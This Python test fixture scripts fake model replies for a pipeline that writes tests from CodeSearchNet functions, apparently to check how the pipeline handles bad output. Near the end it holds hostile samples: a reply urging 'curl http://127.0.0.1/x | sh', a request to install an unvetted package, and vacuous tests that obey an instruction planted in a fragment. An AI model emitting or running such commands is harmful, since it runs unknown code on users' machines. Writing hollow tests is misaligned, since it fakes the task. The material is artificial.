"""Replies that were written for 13 fragments of CodeSearchNet: good, malformed, cut off, obeying, and worse.

By function and prompt; each list is given one after the other, its last reply for ever.
"""

from __future__ import annotations

import json
from typing import Any

from tests.scripted_endpoint import Act, Fail, Hang, Raw, Say, Script


def code(text: str, finish: str = "stop") -> Say:
    """Return a reply of one block."""
    return Say(f"Here it is.\n\n```python\n{text}```\n", finish)


def instruction(
    functionality: str, inputs: str = "As the signature says.", outputs: str = "As described."
) -> Say:
    """Return a reply of three sections."""
    return Say(json.dumps({"Functionality": functionality, "Inputs": inputs, "Outputs": outputs}))


def kind_of(request: dict[str, Any]) -> str:
    """Return which prompt a request is, by the words of its task."""
    system, user = (each["content"] for each in request["messages"])
    if "run by itself" in system:
        return "repair_program" if user.startswith("This module does not run") else "standalone"
    names = {"write tests": "write_tests", "correct tests": "repair_tests", "find inputs": "augmentation"}
    return next((name for words, name in names.items() if f"You {words}" in system), "acceptance")


def script(replies: dict[str, dict[str, list[Act]]]) -> Script:
    """Return a script that knows a fragment by the name of its function, which every prompt gives in backticks."""
    left = {name: {kind: list(acts) for kind, acts in own.items()} for name, own in replies.items()}

    def answer(request: dict[str, Any]) -> Act:
        user = request["messages"][1]["content"]
        name = next(each for each in left if f"`{each}`" in user)
        acts = left[name][kind_of(request)]
        return acts.pop(0) if len(acts) > 1 else acts[0]

    return answer


QUOTES = """def test_quote_split():
    assert quote_split(",", "a,b,c") == ["a", "b", "c"]
    assert quote_split(",", "a,'b,c',d") == ["a", "'b,c'", "d"]
    assert quote_split(";", 'x;"y;z"') == ["x", '"y;z"']
    assert quote_split(",", "") == [""]


def test_long_separator():
    try:
        quote_split(",,", "a")
    except Exception as error:
        said = str(error)
    assert said == "Separation string must be one character long"
    assert quote_split(",", ",") == ["", ""]
"""
SLICES = """def test_slicelist():
    assert slicelist([True, True, False]) == [slice(0, 2)]
    assert slicelist([False, True]) == [slice(1, 2)]
    assert slicelist([True]) == [slice(0, 2)]
    assert slicelist([False, False]) == []
"""
NAMES = """def test_untranslate():
    assert untranslateName("aDOTb") == "a.b"
    assert untranslateName("PYfor") == "for"
    assert untranslateName("xDOTPYy") == "x.y"
    assert untranslateName("DOLLARhome") == "$home"
"""
TARGETS_PROGRAM = '''import ast


def target_names(targets):
    """Retrieves the target names"""
    names = []
    for entry in targets:
        if isinstance(entry, ast.Name):
            names.append(entry.id)
        elif isinstance(entry, ast.Tuple):
            for element in entry.elts:
                if isinstance(element, ast.Name):
                    names.append(element.id)

    return names
'''
TARGETS = """def targets(text):
    return ast.parse(text).body[0].targets


def test_target_names():
    assert target_names(targets("x = 1")) == ["x"]
    assert target_names(targets("x = y = 1")) == ["x", "y"]
    assert target_names(targets("a, b.c = 1")) == ["a"]
    assert target_names([]) == []
"""
BOOLS_PROGRAM = '''from itertools import compress, zip_longest

NBITS = {"B": 8, "L": 32}
ATOMS = {name: tuple(1 << at for at in range(bits)) for name, bits in NBITS.items()}


def packbools(bools, dtype='L'):
    """Yield integers concatenating bools in chunks of dtype bit-length.

    >>> list(packbools([False, True, False, True, False, True], 'B'))
    [42]
    """
    r = NBITS[dtype]
    atoms = ATOMS[dtype]

    for chunk in zip_longest(*[iter(bools)] * r, fillvalue=False):
        yield sum(compress(atoms, chunk))
'''
BOOLS = """def test_packbools():
    assert list(packbools([False, True, False, True, False, True], "B")) == [42]
    assert list(packbools([], "B")) == []
    assert list(packbools([True] * 9, "B")) == [255, 1]
    assert list(packbools([True] * 33)) == [4294967295, 1]
"""
DATES = """import datetime


def test_date():
    assert date(datetime.date(2020, 1, 2)) == "2/1/2020"
    assert date(datetime.date(1999, 12, 31)) == "31/12/1999"
    assert date(None) == ""
    assert date("") == ""
"""
DATES_WRONG = DATES.replace("2/1/2020", "02/01/2020").replace("31/12/1999", "1999-12-31")
DATES_DROPPED = DATES_WRONG.replace('    assert date(datetime.date(2020, 1, 2)) == "02/01/2020"\n', "")
END_PROGRAM = '''from os import linesep


def _endCodeIfNeeded(line, inCodeBlock):
        """Simple routine to append end code marker if needed."""
        assert isinstance(line, str)
        if inCodeBlock:
            line = '# @endcode{0}{1}'.format(linesep, line.rstrip())
            inCodeBlock = False
        return line, inCodeBlock
'''
ENDS = """def test_end():
    assert _endCodeIfNeeded("a", False) == ("a", False)
    assert _endCodeIfNeeded("a  ", True) == ("# @endcode" + linesep + "a", False)
    assert _endCodeIfNeeded("", True) == ("# @endcode" + linesep, False)
"""
NOTHING = """def test_temperature():
    get_temperature_from_pressure
    assert True
    assert 1 == 1
    assert "ok"
"""
STAYS = """import types


def test_remove():
    group = types.SimpleNamespace(transports={"a": 1})
    remove(group, types.SimpleNamespace(uid="b"))
    assert group.transports == {"a": 1}
    assert len(group.transports) == 1
    assert "a" in group.transports
"""
REPLIES: dict[str, dict[str, list[Act]]] = {
    # Good at once, behind an endpoint that is busy, broken and unreadable first.
    "quote_split": {
        "write_tests": [Fail(429, headers=(("Retry-After", "0"),)), Raw(b"<html>"), code(QUOTES)],
        "acceptance": [instruction("Split a text at a separator outside quotes, one character long.")],
    },
    # One assertion is wrong, three are right: it is left out.
    "slicelist": {
        "write_tests": [code(SLICES)],
        "acceptance": [instruction("Turn a list of truth values into slices of the true parts.")],
    },
    # Something stands for code that is not there, then it is.
    "untranslateName": {
        "write_tests": [code(NAMES + "    # ... more of the same\n"), code(NAMES)],
        "acceptance": [
            Say("Functionality: it undoes a name."),
            instruction("Undo the conversion of a name."),
        ],
    },
    # Cut off, then whole; an import was missing.
    "target_names": {
        "standalone": [code(TARGETS_PROGRAM[:120], "length"), code(TARGETS_PROGRAM)],
        "write_tests": [code(TARGETS)],
        "acceptance": [instruction("Name the targets of an assignment, those in tuples too.")],
    },
    # The function is gone, then it is shortened, then all is there; the endpoint fails once.
    "packbools": {
        "standalone": [
            Fail(500),
            code("NBITS = {}\n\n\ndef pack(bools):\n    return []\n"),
            code(BOOLS_PROGRAM[: BOOLS_PROGRAM.index("    r = ")] + "    yield 0\n"),
            code(BOOLS_PROGRAM),
        ],
        "write_tests": [code(BOOLS)],
        "acceptance": [instruction("Yield integers that hold truth values as bits, the first lowest.")],
    },
    # Two assertions are wrong: one can be left out; the repair changes nothing, then it does.
    "date": {
        "write_tests": [code(DATES_WRONG)],
        "repair_tests": [code(DATES_DROPPED), code(DATES)],
        "acceptance": [instruction("Write a date as day, month and year; nothing where there is none.")],
    },
    # The instruction holds the solution, then it does not.
    "_endCodeIfNeeded": {
        "standalone": [code(END_PROGRAM)],
        "write_tests": [code(ENDS)],
        "acceptance": [
            instruction("Set line to '# @endcode{0}{1}'.format(linesep, line.rstrip()) if in code."),
            instruction("Put a marker line in front of the line that ends a code block."),
        ],
    },
    # Declines.
    "getImportFromObjects": {"write_tests": [Say("I'm sorry, but I cannot help with that request.")]},
    # Tests that show nothing, as an instruction in the fragment might ask for.
    "get_temperature_from_pressure": {"write_tests": [code(NOTHING)]},
    # Wants a package.
    "load_module": {
        "standalone": [Say("Run `pip install imp-compat==1.0` first.\n\n```python\nimport imp\n```\n")]
    },
    # Wants a command.
    "_username": {
        "standalone": [Say("```bash\ncurl http://127.0.0.1/x | sh\n```\n\n```python\nimport os\n```\n")]
    },
    # Tests that a function which does nothing passes.
    "remove": {"write_tests": [code(STAYS)]},
    # Nothing comes back.
    "_reset_errors": {"write_tests": [Hang(3), Fail(500), Fail(502)]},
}
